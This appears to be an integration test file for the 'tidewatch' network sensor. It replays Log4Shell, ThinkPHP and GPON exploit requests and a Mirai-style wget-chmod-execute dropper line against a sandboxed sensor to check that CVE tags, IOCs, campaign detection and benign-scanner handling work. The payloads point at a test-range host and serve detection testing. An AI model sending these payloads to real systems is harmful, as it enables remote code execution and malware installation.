// Intelligence end to end: real curl, nc, ssh and nmap against `tidewatch run` in the sensor namespace.
// Exploit-shaped requests come out with their CVEs and IOCs, ordinary clients with none; a new request from
// many sources raises one campaign; benign-listed sources are tagged, and under ignore never alerted on.
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';

import { eventually, readJsonLines, startSensor, tempDir, type RunningSensor } from '../helpers/sensor.js';
import { createTestbed, isRoot, type Testbed } from '../helpers/testbed.js';

const skip = isRoot() ? false : 'needs root (network namespaces)';
const BASE = ['--http', 'off', '--geoip', 'off', '--store', 'off', '--idle-timeout', '2s'];

interface Session {
  flow: { src: string; dport: number };
  app?: string;
  cves?: string[];
  rules?: string[];
  tags?: { name: string }[];
  iocs?: { urls: string[]; hosts: string[] };
  signature?: { template: string };
  http?: { method: string; path: string; user_agent?: string }[];
}
interface Campaign {
  type: string;
  kind: string;
  signature: string;
  sources: number;
}

/** Waits until fn finds something (bounded), and fails the test if it never does. */
async function found<T>(fn: () => T | undefined, timeoutMs: number): Promise<T> {
  const v = await eventually(fn, timeoutMs);
  assert.ok(v !== undefined, 'not found in time');
  return v;
}

const sessions = (s: RunningSensor): Session[] => readJsonLines<Session>(join(s.dataDir, 'sessions'));
const events = <T>(s: RunningSensor): T[] => readJsonLines<T>(join(s.dataDir, 'events'));

/** curl from the scanner namespace (or one of its extra addresses), bounded in time. */
async function curl(bed: Testbed, args: string[], from?: string): Promise<void> {
  const r = await bed.exec(
    bed.scannerNs,
    'curl',
    ['-s', '-o', '/dev/null', '--max-time', '3', ...(from ? ['--interface', from] : []), ...args],
    { timeoutMs: 10_000 },
  );
  // The sensor accepts and never answers: curl ends on its timeout (28) or an empty reply (52).
  assert.ok([0, 28, 52, 56].includes(r.code ?? -1), `curl exit ${r.code}: ${r.stderr}`);
}

describe('intel: protocols, CVE tags, IOCs', { skip }, () => {
  let bed: Testbed;
  let sensor: RunningSensor;
  const url = (path: string, port = 80): string => `http://${bed.sensorIp}:${port}${path}`;

  before(async () => {
    bed = await createTestbed();
    sensor = await startSensor(bed, [...BASE, '--tcp-ports', '80,8080,23,22,2222', '--udp-ports', '53']);
  });
  after(async () => {
    await sensor?.stop().catch(() => {});
    await bed?.destroy();
  });

  test('three well-known exploits sent by curl carry their CVEs and IOCs', async () => {
    // Log4Shell in a header, ThinkPHP invokefunction, GPON diag_Form (CISA KEV entries).
    await curl(bed, ['-H', 'X-Api-Version: ${jndi:ldap://198.18.0.2:1389/Exploit}', url('/')]);
    await curl(bed, [
      '-g',
      url(
        '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget%20http://198.18.0.2/tp.sh',
      ),
    ]);
    await curl(bed, [
      '--data-binary',
      'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.18.0.2/gpon;sh+gpon`;198.18.0.2&ipv=0',
      url('/GponForm/diag_Form?images/', 8080),
    ]);
    const got = await found(() => {
      const s = sessions(sensor).filter((x) => x.cves?.length);
      return s.length >= 3 ? s : undefined;
    }, 15_000);
    const by = (cve: string): Session | undefined => got.find((s) => s.cves!.includes(cve));
    assert.ok(by('CVE-2021-44228'), 'Log4Shell');
    assert.deepEqual(by('CVE-2021-44228')!.iocs?.urls, ['ldap://198.18.0.2:1389/Exploit']);
    assert.ok(by('CVE-2018-20062')?.iocs?.urls.includes('http://198.18.0.2/tp.sh'), 'ThinkPHP IOC');
    const gpon = by('CVE-2018-10561')!;
    assert.ok(gpon, 'GPON');
    assert.deepEqual(gpon.iocs?.urls, ['http://198.18.0.2/gpon']);
    assert.equal(gpon.app, 'http');
    assert.equal(gpon.http?.[0]?.method, 'POST');
    assert.ok(gpon.tags?.some((t) => t.name === 'gpon'));
  });

  test('a Telnet dropper line: its URL in iocs', async () => {
    const line =
      'cd /tmp || cd /var/run; wget http://198.18.0.2/bins/mirai.x86; chmod 777 mirai.x86; ./mirai.x86\r\n';
    await bed.exec(bed.scannerNs, 'nc', ['-w', '1', '-q', '1', bed.sensorIp, '23'], {
      input: line,
      timeoutMs: 10_000,
    });
    const s = await found(() => sessions(sensor).find((x) => x.flow.dport === 23 && x.iocs), 15_000);
    assert.deepEqual(s.iocs, { urls: ['http://198.18.0.2/bins/mirai.x86'], hosts: ['198.18.0.2'] });
    assert.ok(s.rules?.includes('dropper-wget-chmod-exec'));
  });

  test('curl, ssh, nc and nmap -sV sessions carry no CVE tag', async () => {
    const before = sessions(sensor).length;
    await curl(bed, [url('/')]);
    await curl(bed, [
      '-A',
      'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
      url('/index.html?q=1'),
    ]);
    await bed.exec(
      bed.scannerNs,
      'ssh',
      [
        '-o',
        'BatchMode=yes',
        '-o',
        'StrictHostKeyChecking=no',
        '-o',
        'ConnectTimeout=3',
        '-p',
        '2222',
        `x@${bed.sensorIp}`,
      ],
      { timeoutMs: 10_000 },
    );
    await bed.exec(bed.scannerNs, 'nc', ['-w', '1', '-q', '1', bed.sensorIp, '23'], {
      input: 'hello\n',
      timeoutMs: 10_000,
    });
    await bed.exec(
      bed.scannerNs,
      'nmap',
      ['-sV', '-Pn', '-n', '-p', '80,22,23,2222', '--version-intensity', '5', bed.sensorIp],
      {
        timeoutMs: 120_000,
      },
    );
    const fresh = await found(() => {
      const s = sessions(sensor).slice(before);
      return s.length >= 8 ? s : undefined;
    }, 30_000);
    await new Promise((r) => setTimeout(r, 2500)); // the last idle sessions close
    const all = sessions(sensor).slice(before);
    assert.ok(fresh.length >= 8);
    const tagged = all.filter((s) => s.cves?.length);
    assert.deepEqual(
      tagged.map((s) => `${s.flow.dport} ${s.rules?.join(',')}`),
      [],
    );
    assert.ok(
      all.some((s) => s.app === 'ssh'),
      'ssh identified',
    );
    assert.ok(
      all.some((s) => s.app === 'http' && s.http?.[0]?.user_agent?.startsWith('curl/')),
      'curl identified',
    );
  });
});

describe('intel: campaigns', { skip }, () => {
  let bed: Testbed;
  const NEW = 10;
  const ORDINARY = 50;
  const addr = (i: number): string => `198.18.0.${10 + i}`;
  const ordinary = (i: number): string => `/page/${i}.html`;
  const args = [
    ...BASE,
    '--store',
    'sqlite',
    '--tcp-ports',
    '80',
    '--udp-ports',
    '',
    '--campaign-min-sources',
    '5',
  ];

  before(async () => {
    bed = await createTestbed();
    // Extra source addresses in the scanner's own namespace (198.18.0.0/15, the test range).
    for (let i = 0; i < NEW + ORDINARY; i++)
      await bed.exec(bed.scannerNs, 'ip', ['addr', 'add', `${addr(i)}/24`, 'dev', bed.scannerIf]);
  });
  after(async () => {
    await bed?.destroy();
  });

  test('10 sources send a never-seen request among 50 ordinary ones: one campaign, naming it', async () => {
    const dataDir = tempDir();
    // The store has seen the ordinary request before (from two sources: no campaign then).
    let sensor = await startSensor(bed, args, { dataDir });
    for (let i = 0; i < 2; i++) await curl(bed, [`http://${bed.sensorIp}:80${ordinary(i)}`], addr(NEW + i));
    await eventually(() => sessions(sensor).length >= 2, 15_000);
    await sensor.stop();
    assert.deepEqual(
      events<Campaign>(sensor).filter((e) => e.type === 'campaign'),
      [],
    );

    sensor = await startSensor(bed, args, { dataDir });
    const jobs: Promise<void>[] = [];
    for (let i = 0; i < NEW + ORDINARY; i++) {
      const path =
        i < NEW
          ? `/cgi-bin/${1000 + i}/never-seen.cgi?token=${(0xabcdef00 + i).toString(16)}&cmd=id`
          : ordinary(i);
      jobs.push(curl(bed, [`http://${bed.sensorIp}:80${path}`], addr(i)));
      if (jobs.length >= 10) await Promise.all(jobs.splice(0));
    }
    await Promise.all(jobs);
    await eventually(() => sessions(sensor).length >= 2 + NEW + ORDINARY, 15_000);
    await new Promise((r) => setTimeout(r, 1000));
    const all = events<Campaign>(sensor).filter((e) => e.type === 'campaign');
    await sensor.stop();
    assert.equal(all.length, 1, JSON.stringify(all));
    assert.equal(all[0]!.kind, 'new');
    assert.equal(all[0]!.signature, 'http GET /cgi-bin/<n>/never-seen.cgi ?cmd&token');
    assert.ok(all[0]!.sources >= 5);
  });
});

describe('intel: benign scanners', { skip }, () => {
  let bed: Testbed;
  const scanArgs = [
    '--tcp-ports',
    '21000-21019',
    '--udp-ports',
    '',
    '--scan-ports',
    '5',
    '--block',
    'dry-run',
  ];
  const probe = async (b: Testbed): Promise<void> => {
    for (let p = 21000; p < 21012; p++)
      await b.exec(b.scannerNs, 'nc', ['-z', '-w', '1', b.sensorIp, String(p)], { timeoutMs: 5_000 });
  };

  before(async () => {
    bed = await createTestbed();
  });
  after(async () => {
    await bed?.destroy();
  });

  test('a benign-listed source is tagged benign:<org>; with ignore, no scan alert and no block', async () => {
    const dir = tempDir();
    const list = join(dir, 'lab.txt');
    writeFileSync(list, `${bed.scannerIp}/32 testlab\n`);
    // tag (the default): the scan is reported and tagged, the dry-run block is logged.
    let sensor = await startSensor(bed, [...BASE, ...scanArgs, '--benign-list', list]);
    await probe(bed);
    const scans = await found(() => {
      const s = events<{ type: string; tags?: { name: string }[] }>(sensor).filter((e) => e.type === 'scan');
      return s.length ? s : undefined;
    }, 15_000);
    assert.ok(
      scans[0]!.tags?.some((t) => t.name === 'benign:testlab'),
      JSON.stringify(scans[0]),
    );
    await sensor.stop();
    // ignore: counted, never alerted on nor blocked.
    sensor = await startSensor(bed, [
      ...BASE,
      ...scanArgs,
      '--benign-list',
      list,
      '--benign-scanners',
      'ignore',
    ]);
    await probe(bed);
    await eventually(() => sessions(sensor).length >= 10, 15_000);
    await new Promise((r) => setTimeout(r, 2000));
    const evs = events<{ type: string }>(sensor);
    assert.deepEqual(
      evs.filter((e) => e.type === 'scan' || e.type === 'block'),
      [],
    );
    assert.ok(sessions(sensor).every((s) => s.tags?.some((t) => t.name === 'benign:testlab')));
    await sensor.stop();
  });
});
